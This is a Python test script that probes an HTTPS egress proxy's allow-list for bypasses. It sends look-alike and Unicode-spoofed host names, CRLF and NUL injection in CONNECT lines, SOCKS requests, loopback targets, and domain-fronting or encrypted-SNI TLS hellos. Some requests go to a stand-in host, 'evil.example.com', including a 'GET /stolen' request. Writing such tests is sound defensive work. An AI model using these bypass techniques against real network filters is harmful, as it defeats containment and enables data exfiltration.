"""names.py ATTEMPT: connections to names that look like allowed ones, by the proxy of HTTPS_PROXY or by resolving them.

Allowed are tunnel.example.com:443 and *.sub.example.com:443; whatever else is reached was not.
"""

import os
import ssl

from attempts import *

PROXY = os.environ.get("https_proxy") or os.environ.get("HTTPS_PROXY")


def proxy():
    host, port = PROXY.rpartition("/")[2].split(":")
    return socket.create_connection((host, int(port)), 2)


def dial(name, port=443):
    if not PROXY:
        return socket.create_connection((name.encode(), port), 2)
    client = proxy()
    client.sendall("CONNECT {0}:{1} HTTP/1.1\r\nHost: {0}:{1}\r\n\r\n".format(name, port).encode())
    answer = client.recv(1000)
    if b" 200 " not in answer:
        raise OSError(0, "the proxy said " + (answer.split(b"\r\n")[0].decode() or "nothing"))
    return client


def greet(client, server_name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    client.settimeout(2)
    with context.wrap_socket(client, server_hostname=server_name) as tls:
        tls.sendall(b"GET /stolen HTTP/1.1\r\nHost: evil.example.com\r\nConnection: close\r\n\r\n")
        print("answered", tls.recv(15))


def look_alikes():
    for name in (
        "tunnel.example.com.evil.example.com", "eviltunnel.example.com", "sub.example.com", "evilsub.example.com",
        "a.sub.example.com.evil.example.com", "tunnel.example.com..", ".tunnel.example.com",
        "tunnel.example.com\u3002evil.example.com", "\uff54unnel.example.com", "tunnel\u3002example.com",
        "xn--tunnel-.example.com", "tunnel.example.co", "tunnel-example.com", "*.sub.example.com",
        "evil.example.com#.sub.example.com", "evil.example.com/.sub.example.com", "evil.example.com",
        "evil.example.com:443@tunnel.example.com",
    ):  # fmt: skip
        quietly(lambda: greet(dial(name), name.strip(".") if name.isascii() else None))


def spellings_of_allowed_names():
    """What is another spelling of an allowed name, and is that name."""
    for name in ("TUNNEL.example.com", "tunnel.example.com.", "A.SUB.EXAMPLE.COM"):
        quietly(lambda: greet(dial(name), name.strip(".").lower()))


def connect_lines():
    """What is no name at all: zeros, line ends, user names, other methods, other protocols."""
    for target in (
        "evil.example.com:443\0tunnel.example.com:443", "tunnel.example.com\0.evil.example.com:443",
        "tunnel.example.com:443\r\nX: evil.example.com:443", "evil.example.com:443\rtunnel.example.com:443",
        "evil.example.com:443\ntunnel.example.com:443", "tunnel.example.com@evil.example.com:443",
        "tunnel.example.com:443@evil.example.com:443", "evil.example.com:443 tunnel.example.com:443",
        "http://evil.example.com:443", "[evil.example.com]:443", "evil.example.com:0443", "evil.example.com:65979",
        "evil.example.com:+443", "tunnel.example.com:443,evil.example.com:443",
        "evil.example.com:443?tunnel.example.com:443",
        "evil.example.com\t:443", "evil.example.com", "evil.example.com:443",
    ):  # fmt: skip
        with proxy() as client:
            client.settimeout(0.3)
            quietly(client.sendall, ("CONNECT %s HTTP/1.1\r\nHost: tunnel.example.com:443\r\n\r\n" % target).encode())
            answer = quietly(client.recv, 100)
            print(repr(target), answer.split(b"\r\n")[0] if isinstance(answer, bytes) else "nothing")
            if isinstance(answer, bytes) and b" 200 " in answer:
                quietly(client.sendall, record(hello("evil.example.com")))  # hoopx waits for it before it dials
                quietly(client.recv, 1)
    evil = b"evil.example.com"
    # SOCKS 5 and 4.
    five = b"\5\1\0" + b"\5\1\0\3" + bytes([len(evil)]) + evil + b"\1\xbb"
    for greeting in (five, b"\4\1\1\xbb\0\0\0\1\0" + evil + b"\0"):
        with proxy() as client:
            client.settimeout(0.3)
            quietly(client.sendall, greeting)
            quietly(client.recv, 100)


def its_own_port():
    """The proxy asked for itself, by each name that it has."""
    port = PROXY.rpartition(":")[2]
    for host in ("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "[::ffff:127.0.0.1]", "2130706433"):
        with proxy() as client:
            client.settimeout(2)
            client.sendall("CONNECT {0}:{1} HTTP/1.1\r\nHost: {0}:{1}\r\n\r\n".format(host, port).encode())
            answer = quietly(client.recv, 100)
            print(host, answer.split(b" ")[1].decode() if isinstance(answer, bytes) and answer else "nothing")


def hello(server_name, extension=b""):
    """A TLS hello, with one more extension at the end."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=server_name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    body = bytearray(outgoing.read()[9:])  # behind the record's and the message's heads
    position = 34 + 1 + body[34]
    position += 2 + int.from_bytes(body[position : position + 2], "big")
    position += 1 + body[position]
    extensions = int.from_bytes(body[position : position + 2], "big") + len(extension)
    body[position : position + 2] = extensions.to_bytes(2, "big")
    body += extension
    return b"\1" + len(body).to_bytes(3, "big") + body


def record(message):
    return b"\x16\3\1" + len(message).to_bytes(2, "big") + message


def fronting():
    """An allowed name's connection, whose TLS names another server, or none that can be read."""
    ech = b"\xfe\x0d" + (40).to_bytes(2, "big") + b"\0\0\1\0\1\7\0\0" + bytes(32)
    name = b"\0" + (16).to_bytes(2, "big") + b"evil.example.com"
    two_names = b"\0\0" + (21).to_bytes(2, "big") + (19).to_bytes(2, "big") + name
    evil = hello("evil.example.com")
    pieces = [evil[index : index + 40] for index in range(0, len(evil), 40)]
    for name, sent in (
        ("another name", record(evil)), ("no name", record(hello(None))),
        ("an encrypted hello", record(hello("tunnel.example.com", ech))),
        ("two names", record(hello("tunnel.example.com", two_names))),
        ("another name in many records", b"".join(map(record, pieces))),
        ("SSH", b"SSH-2.0-evil\r\n"), ("nothing that is known", b"\0\1\2\3evil\r\n\r\n"),
        ("an empty record first", record(b"") + record(evil)),
    ):  # fmt: skip
        def attempt():
            with dial("tunnel.example.com") as client:
                client.settimeout(1)
                client.sendall(sent)
                print(name, "answered" if client.recv(1) == b"\x16" else "refused")

        quietly(attempt)


main(globals())
